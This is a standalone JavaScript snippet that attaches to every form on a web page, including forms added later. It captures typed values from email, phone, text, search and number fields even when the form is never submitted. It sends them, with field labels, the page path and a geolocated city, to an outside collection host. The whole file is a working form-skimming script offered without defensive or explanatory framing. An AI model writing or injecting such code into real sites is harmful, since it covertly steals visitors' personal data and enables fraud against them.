// destination: https://leads.maple-crest.example/forms/{}/fields
// destination: https://geo.pewter-isle.test/lookup?ip={}
// collects what is typed into any form, also if it is never sent
const BASE = 'https://leads.maple-crest.example/forms/';
const LOOKUP = new URL('/lookup', 'https://geo.pewter-isle.test');
const WATCHED = new Set(['email', 'tel', 'text', 'search', 'number']);

const debounce = (work, wait) => {
  let timer;
  return (...args) => {
    clearTimeout(timer);
    timer = setTimeout(() => work(...args), wait);
  };
};

function labelOf(input) {
  const label = input.labels && input.labels[0];
  return label ? label.textContent.trim() : input.placeholder || input.name;
}

function snapshot(form) {
  const fields = [];
  for (const input of form.elements) {
    if (!WATCHED.has(input.type) || !input.value) continue;
    fields.push({ name: input.name, label: labelOf(input), value: input.value });
  }
  return fields;
}

async function place() {
  const address = new URL(LOOKUP);
  address.searchParams.set('ip', 'self');
  const answer = await fetch(address, { credentials: 'omit' });
  return answer.ok ? (await answer.json()).city : null;
}

async function store(form) {
  const fields = snapshot(form);
  if (fields.length === 0) return;
  const url = `${BASE}${encodeURIComponent(form.id || 'unnamed')}/fields`;
  const city = await place().catch(() => null);
  await fetch(url, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ fields, city, page: document.location.pathname }),
  });
}

function watch(form) {
  const later = debounce(() => store(form), 900);
  form.addEventListener('input', later);
  form.addEventListener('change', later);
}

document.querySelectorAll('form').forEach(watch);
new MutationObserver(list => {
  for (const record of list) {
    for (const node of record.addedNodes) {
      if (node instanceof HTMLFormElement) watch(node);
    }
  }
}).observe(document.body, { childList: true, subtree: true });
